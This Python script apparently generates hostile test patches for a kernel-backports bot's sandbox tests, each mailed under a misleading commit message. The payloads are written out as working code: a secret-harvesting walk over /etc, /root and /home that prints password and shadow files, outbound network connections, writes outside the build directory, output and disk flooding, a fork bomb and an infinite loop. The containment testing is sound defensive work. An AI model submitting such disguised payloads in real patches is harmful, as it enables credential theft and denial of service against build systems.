"""Write the hostile patch series in this folder (run from the repo root).

    .venv/bin/python tests/data/hostile/make_series.py

Each series is one patch against the sample tree (bot/demo/data/tree) whose
generator (gentree.py) or package Makefile (Makefile.package) does
something a build must never be able to do. tests/test_hostile.py mails
them to the bot and checks that each is contained and answered.
"""

from __future__ import annotations

import sys
import tempfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent.parent.parent))

from bot.demo import layout  # noqa: E402
from bot.sandbox import git  # noqa: E402

GEN_CALL = ("        outdir.mkdir(parents=True, exist_ok=True)\n",
            "        outdir.mkdir(parents=True, exist_ok=True)\n        prepare(upstream, outdir)\n")
GEN_DEF = "\ndef main(argv=None):\n"
MAKE_ALL = "all: $(OBJS)\n"
MAKE_RULE = "$(O)/%.o: %.c\n"

# name -> (file, subject, why (commit message), code)
SERIES = {
    "network": ("gentree.py", "gentree: fetch the minidrv firmware while generating",
                "The package needs the firmware blob; fetch it during generation.", '''
def prepare(upstream, outdir):
    """Fetch the firmware blob into the package."""
    import socket
    errors = []
    for host, port in (("127.0.0.1", 47611), ("1.1.1.1", 80), ("deb.debian.org", 80)):
        try:
            socket.create_connection((host, port), timeout=3).close()
            log(f"connected to {host}:{port}")
            return
        except OSError as exc:
            errors.append(f"{host}:{port}: {exc}")
    raise GenError("cannot fetch firmware (" + "; ".join(errors) + ")")

'''),
    "read-secrets": ("gentree.py", "gentree: pick up local configuration",
                     "Read site configuration from around the tree.", '''
def prepare(upstream, outdir):
    """Look for the bot's database, rules and passwords, and print them."""
    import os
    found = []
    roots = [p for p in TREE.parents if p != Path("/")]
    roots += [Path(p) for p in ("/root", "/home", "/etc", "/srv", "/var/lib", "/tmp")]
    for root in roots:
        for dirpath, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in (".pyenv", ".venv", "site-packages")]
            for name in files:
                if name.endswith((".sqlite", ".toml", ".db", "password")) or name == "shadow":
                    path = Path(dirpath) / name
                    try:
                        found.append(f"{path}: {path.read_bytes()[:300]!r}")
                    except OSError:
                        pass
    for line in found:
        log(f"STOLEN {line}")
    if not found:
        raise GenError("local configuration not found")

'''),
    "write-outside-generate": ("gentree.py", "gentree: cache generated files beside the tree",
                               "Keep a copy of the output next to the tree for the next run.", '''
def prepare(upstream, outdir):
    """Write outside the output dir: into the tree, upstream, the state dir, ..."""
    targets = [TREE / "pwned", upstream / "pwned", Path("/root/pwned"), Path("/usr/pwned"),
               Path("/etc/pwned"), Path("/pwned")]
    targets += [p / "pwned" for p in TREE.parents if p != Path("/")]
    failed = []
    for target in targets:
        try:
            target.write_text("pwned\\n")
            log(f"wrote {target}")
        except OSError as exc:
            failed.append(f"{target}: {exc.strerror}")
    if failed:
        raise GenError("cannot write the cache: " + "; ".join(failed[:4]))

'''),
    "gigabytes": ("gentree.py", "gentree: verbose progress",
                  "Print every step in detail.", '''
def prepare(upstream, outdir):
    """Print gigabytes."""
    line = "x" * 1023 + "\\n"
    block = line * 64
    while True:
        sys.stdout.write(block)

'''),
    "big-file": ("gentree.py", "gentree: add the firmware image",
                 "Ship a preallocated firmware image in the package.", '''
def prepare(upstream, outdir):
    """Write one huge file into the output dir."""
    block = b"\\0" * (1 << 20)
    with open(outdir / "firmware.bin", "wb") as f:
        for _ in range(3 * 1024):
            f.write(block)

'''),
    "write-outside-build": ("Makefile.package", "Makefile: install headers into the kernel tree",
                            "Put the backport headers where the kernel build finds them.", '''
.PHONY: install-headers
install-headers:
	@fail=0; for f in $(KLIB_BUILD)/include/linux/pwned.h $(CURDIR)/pwned $(O)/../pwned \\
		$(O)/../../pwned $(O)/../../../pwned /root/pwned /usr/pwned /pwned; do \\
		if echo pwned > $$f 2>/dev/null; then echo "wrote $$f"; \\
		else echo "install-headers: cannot write $$f"; fail=1; fi; done; exit $$fail
'''),
    "fork-bomb": ("Makefile.package", "Makefile: build objects in parallel",
                  "Speed up the build.", '''
.PHONY: parallel
parallel:
	@b() { b | b; }; b
'''),
    "loop-forever": ("Makefile.package", "Makefile: wait for the kernel headers",
                     "Wait until the headers are ready.", '''
.PHONY: wait-headers
wait-headers:
	@while :; do :; done
'''),
}


def patch_text(tree: Path, name: str) -> str:
    file, _, _, code = SERIES[name]
    path = tree / file
    original = path.read_text()
    if file == "gentree.py":
        assert original.count(GEN_CALL[0]) == 1 and original.count(GEN_DEF) == 1
        text = original.replace(GEN_CALL[0], GEN_CALL[1]).replace(GEN_DEF, code + GEN_DEF)
    else:
        assert original.count(MAKE_ALL) == 1 and original.count(MAKE_RULE) == 1
        target = code.split(".PHONY: ", 1)[1].split()[0]
        text = original.replace(MAKE_ALL, f"all: {target} $(OBJS)\n")
        text = text.replace(MAKE_RULE, code.lstrip("\n") + "\n" + MAKE_RULE)
    path.write_text(text)
    try:
        res = git.proc.run(["git", "-C", str(tree), "diff", "--stat", "-p", "HEAD"], timeout=30)
    finally:
        path.write_text(original)
    assert res.ok, res.output
    return res.output


def mail(name: str, diff: str, index: int) -> str:
    _, subject, why, _ = SERIES[name]
    return (
        "From: Mallory Hostile <mallory@example.net>\n"
        "To: backports@vger.kernel.org\n"
        f"Subject: [PATCH] {subject}\n"
        f"Date: Mon, 2 Feb 2026 10:{index:02d}:00 +0000\n"
        f"Message-ID: <hostile-{name}@example.net>\n"
        "MIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=UTF-8\n"
        "Content-Transfer-Encoding: 8bit\n"
        "\n"
        f"{why}\n\n"
        "Signed-off-by: Mallory Hostile <mallory@example.net>\n"
        "---\n"
        f"{diff}"
        "-- \n2.47.1\n"
    )


def main() -> int:
    work = Path(tempfile.mkdtemp(prefix="bpbot-hostile-"))
    rules = layout.prepare(work, with_list=False)
    for index, name in enumerate(SERIES, 1):
        out = HERE / f"{index:02d}-{name}.eml"
        out.write_text(mail(name, patch_text(rules.tree_path, name), index))
        print(out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
